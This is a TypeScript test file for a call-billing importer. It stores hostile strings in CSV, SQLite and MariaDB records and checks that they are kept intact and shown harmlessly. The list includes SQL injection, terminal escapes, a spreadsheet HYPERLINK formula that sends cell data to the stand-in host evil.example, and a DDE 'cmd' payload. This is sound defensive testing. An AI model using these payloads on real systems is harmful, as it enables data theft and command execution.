import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'

import Libsql from 'libsql'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { aCallerid, aClient, aProvider, aSource } from './support/builders.ts'
import { useDatabase } from './support/database.ts'
import { drain, useMysql } from './support/importing.ts'
import { drainStages } from './support/lines.ts'
import { run } from './support/processes.ts'

const billing = useDatabase()
const exchange = useMysql()
const folder = mkdtempSync(join(tmpdir(), 'paidcalls-hostile-'))
afterAll(() => {
  rmSync(folder, { recursive: true, force: true })
})

const utf8 = (text: string) => Buffer.from(text)

// What stands in the record; kept as it was, but for bytes that no text can hold.
const hostile: [what: string, bytes: Buffer, kept?: string][] = [
  ['a statement', utf8(`'; drop table paidcalls; --`)],
  ['a statement in a dollar quote', utf8(`$1$$; delete from cdr; select '\\'`)],
  ['a JSON text', utf8(`","calldate":null},{"source_key":"x`)],
  ['an escaped NUL', utf8('\\u0000 \\x00 %00')],
  ['escape sequences of a terminal', utf8('\u001b[2J\u001b]0;title\u0007\u001b[31m')],
  ['a control sequence of Latin-1', utf8('\u009b31mred')],
  ['letters that run backwards', utf8('\u202e7654321\u2066 \u200f')],
  ['line ends', utf8('one\r\ntwo\nthree\rfour\u2028five')],
  ['backspaces', utf8('12345\b\b\b\b\b67890\u007f')],
  ['a formula', utf8('=HYPERLINK("http://evil.example/?"&A1,"click")')],
  ['another formula', utf8('@SUM(1+1)*cmd|"/C calc"!A0')],
  ['a name of JavaScript', utf8('__proto__')],
  ['a template', utf8('${process.exit(1)} {{7*7}} %s%n')],
  ['a megabyte', Buffer.alloc(1_000_000, '7')],
  ['a megabyte of signs', utf8('ä'.repeat(500_000))],
  ['bytes that are no UTF-8', Buffer.from([0x41, 0xff, 0xfe, 0xc3, 0x28]), 'A\u00ff\u00fe\u00c3('],
  ['a NUL', Buffer.from([0x41, 0x00, 0x42]), 'A\ufffdB'],
]

type Field = 'src' | 'dst' | 'channel' | 'dstchannel' | 'clid'
const fields: readonly Field[] = ['src', 'dst', 'channel', 'dstchannel', 'clid']

interface Cell {
  what: string
  field: Field
  bytes: Buffer
  kept: string
}

/** Each text in each field of a call that would otherwise be priced. */
const cells: Cell[] = hostile.flatMap(([what, bytes, kept]) =>
  fields.map((field) => ({ what, field, bytes, kept: kept ?? bytes.toString() })),
)

const usual: Record<Field, string> = {
  src: '201',
  dst: '84951234567',
  channel: 'SIP/201-00000001',
  dstchannel: 'SIP/trunk-00000002',
  clid: '',
}
const valuesOf = ({ field, bytes }: Cell): Buffer[] =>
  fields.map((name) => (name === field ? bytes : utf8(usual[name])))
const moment = '2026-03-02 12:00:00'

/** Fills a store with a record for each cell; gives back its URL and which cells it can hold. */
const stores: [store: string, fill: () => Promise<{ url: string; held: Cell[] }>][] = [
  [
    'a CSV file',
    () => {
      const path = join(folder, 'Master.csv')
      // A line is a record, whatever is quoted.
      const held = cells.filter(({ what }) => what !== 'line ends')
      const lines = held.map((cell) => {
        const [src, dst, channel, dstchannel, clid] = valuesOf(cell).map((value) => value.toString('latin1'))
        const written = [
          '',
          src,
          dst,
          '',
          clid,
          channel,
          dstchannel,
          'Dial',
          '',
          moment,
          moment,
          moment,
          65,
          60,
          'ANSWERED',
          '',
          '1',
          '',
        ]
        return written.map((value) => `"${String(value).replaceAll('"', '""')}"`).join(',')
      })
      writeFileSync(path, Buffer.from(`${lines.join('\n')}\n`, 'latin1'))
      return Promise.resolve({ url: pathToFileURL(path).href.replace('file:', 'csv:'), held })
    },
  ],
  [
    'a table of SQLite',
    () => {
      const path = join(folder, 'master.db')
      const db = new Libsql(path)
      db.exec(
        `create table cdr (id integer primary key, ${fields.map((name) => `${name} text`).join(', ')},
           calldate text, disposition text, duration integer, billsec integer)`,
      )
      const insert = db.prepare(
        `insert into cdr (${fields.join(', ')}, calldate, disposition, duration, billsec)
         values (${fields.map(() => 'cast(? as text)').join(', ')}, '${moment}', 'ANSWERED', 65, 60)`,
      )
      for (const cell of cells) insert.run(...valuesOf(cell))
      db.close()
      return Promise.resolve({
        url: `${pathToFileURL(path).href.replace('file:', 'sqlite:')}?table=cdr`,
        held: cells,
      })
    },
  ],
  [
    'a table of MariaDB',
    async () => {
      await exchange.my.query(
        `create table hostile (id integer auto_increment primary key, ${fields.map((name) => `${name} mediumblob`).join(', ')},
           calldate datetime, disposition varchar(45), duration integer, billsec integer)`,
      )
      for (const cell of cells)
        await exchange.my.query(
          `insert into hostile (${fields.join(', ')}, calldate, disposition, duration, billsec)
           values (${fields.map(() => '?').join(', ')}, '${moment}', 'ANSWERED', 65, 60)`,
          valuesOf(cell),
        )
      return { url: `${exchange.url}?table=hostile`, held: cells }
    },
  ],
]

// Those that show what stands in records, or names.
const views = [
  'parked_calls',
  'oldest_calls',
  'answered_in_part',
  'client_calls',
  'client_calls_by_time',
  'price_not_known',
  'saving_below_zero',
  'sold_below_cost',
]

const invisible = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u

beforeAll(async () => {
  const { db } = billing
  await aProvider(db)
  // What an administrator types may be hostile, too; it stands in the problem of calls without a tariff.
  // A row from before the database refused such names.
  await db.query(`alter table client drop constraint "a client's name has no control characters"`)
  const client_id = await aClient(db, { name: '\u001b[2J\u202eemca\r\n=1+1' })
  await aCallerid(db, client_id, '201')
})

describe.each(stores)('hostile text in %s', (store, fill) => {
  it('is kept as it was and shown harmless', { timeout: 60_000 }, async () => {
    const { db } = billing
    const source_id = await aSource(db, { name: store })
    const { url, held } = await fill()
    await drain(billing.url, store, url)
    const { rows } = await db.query<Partial<Record<Field, string>> & { rejected: string | null }>(
      `select record ->> 'src' as src, record ->> 'dst' as dst, record ->> 'channel' as channel,
         record ->> 'dstchannel' as dstchannel, record ->> 'clid' as clid, rejected
       from cdr where source_id = $1 order by id`,
      [source_id],
    )
    expect(rows).toHaveLength(held.length)
    const changed = held.filter(
      ({ field, kept }, at) => rows[at]?.[field] !== kept || rows[at].rejected !== null,
    )
    expect(changed.map(({ what, field }) => `${what} in ${field}`)).toEqual([])

    await drainStages(billing.url)
    const { rows: calls } = await db.query<{ problem: string | null; attempts: number; aside: boolean }>(
      `select problem, attempts, due_at is not null as aside from paidcalls where source_id = $1`,
      [source_id],
    )
    expect(calls).toHaveLength(held.length)
    expect(calls.filter(({ attempts, aside }) => attempts > 0 || aside)).toEqual([])
    const problems = calls.map(({ problem }) => problem ?? '')
    expect(problems.filter((problem) => invisible.test(problem) || problem.length > 1_200)).toEqual([])
    expect(new Set(problems.map((problem) => problem.split(' ').slice(0, 3).join(' '))).size).toBeGreaterThan(
      3,
    )
    for (const view of views) {
      const { rows: seen } = await db.query<Record<string, unknown>>(`select * from ${view}`)
      expect(
        seen.filter((row) =>
          Object.values(row).some((value) => typeof value === 'string' && invisible.test(value)),
        ),
      ).toEqual([])
    }
  })
})

describe('hostile text', () => {
  it('reaches no terminal by way of the log', { timeout: 60_000 }, async () => {
    await billing.db.query('update paidcalls set problem = null where problem is not null')
    for (const stage of ['client', 'destination', 'tariff']) {
      const { code, stdout, stderr } = await run(`stages/${stage}.ts`, ['--drain'], {
        DATABASE_URL: billing.url,
        LOG_LEVEL: 'debug',
      })
      expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
      expect(stdout).toContain('call waits')
      expect(stdout.split('\n').filter((line) => invisible.test(line))).toEqual([])
    }
  })
})
